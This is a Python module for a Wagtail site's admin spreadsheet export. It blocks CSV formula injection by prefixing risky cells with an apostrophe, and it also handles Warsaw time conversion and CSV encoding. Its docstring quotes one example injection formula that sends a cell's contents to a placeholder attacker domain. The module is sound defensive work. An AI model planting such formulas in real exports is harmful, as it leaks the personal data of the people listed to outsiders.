"""Spreadsheet exports that a spreadsheet program reads as the admin shows them, and cannot run
as code.

Visitors write the names, e-mails and notes the admin exports; a cell that starts with `=`,
`+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel and LibreOffice
(`=HYPERLINK("https://evil.example?"&A2, "CV")`). Following OWASP's advice on CSV injection,
such a cell gets a leading apostrophe, so it shows as the text that was typed. Wagtail's XLSX
export already stores formulas as text; its CSV export writes them as they are.

Times are Polish local time (Wagtail writes UTC, which an organiser reads as wrong by one or
two hours), and a CSV starts with UTF-8's byte-order mark, without which Excel reads the
bytes as Windows-1250 or -1252 and shows "Å›" for "ś".
"""

import datetime

from django.utils import timezone, translation

from wagtail.admin.views.mixins import SpreadsheetExportMixin

from pages.schedule import WARSAW

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def neutralise_formula(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def warsaw_time(value: datetime.datetime) -> datetime.datetime:
    """Naive Polish local time, as a spreadsheet cell holds it (a naive one is kept as is)."""
    if timezone.is_naive(value):
        return value
    return timezone.make_naive(value, WARSAW)


class FormulaSafeExportMixin(SpreadsheetExportMixin):
    custom_value_preprocess = {
        **SpreadsheetExportMixin.custom_value_preprocess,
        datetime.datetime: {
            SpreadsheetExportMixin.FORMAT_XLSX: warsaw_time,
            SpreadsheetExportMixin.FORMAT_CSV: lambda value: warsaw_time(value).strftime(
                "%Y-%m-%d %H:%M"
            ),
        },
    }

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return neutralise_formula(value) if export_format == self.FORMAT_CSV else value

    def stream_csv(self, queryset):
        """The rows are written while the response streams, after the view has returned and
        Wagtail's admin has put back the default language: each is written in the editor's
        language, the one the view ran in (headings and status labels)."""
        language = translation.get_language()  # now, not when the stream is first read
        rows = super().stream_csv(queryset)

        def in_language():
            yield BOM
            while True:
                with translation.override(language):
                    row = next(rows, None)
                if row is None:
                    return
                yield row

        return in_language()

    def write_csv_response(self, queryset):
        response = super().write_csv_response(queryset)
        response["Content-Type"] = "text/csv; charset=utf-8"
        return response
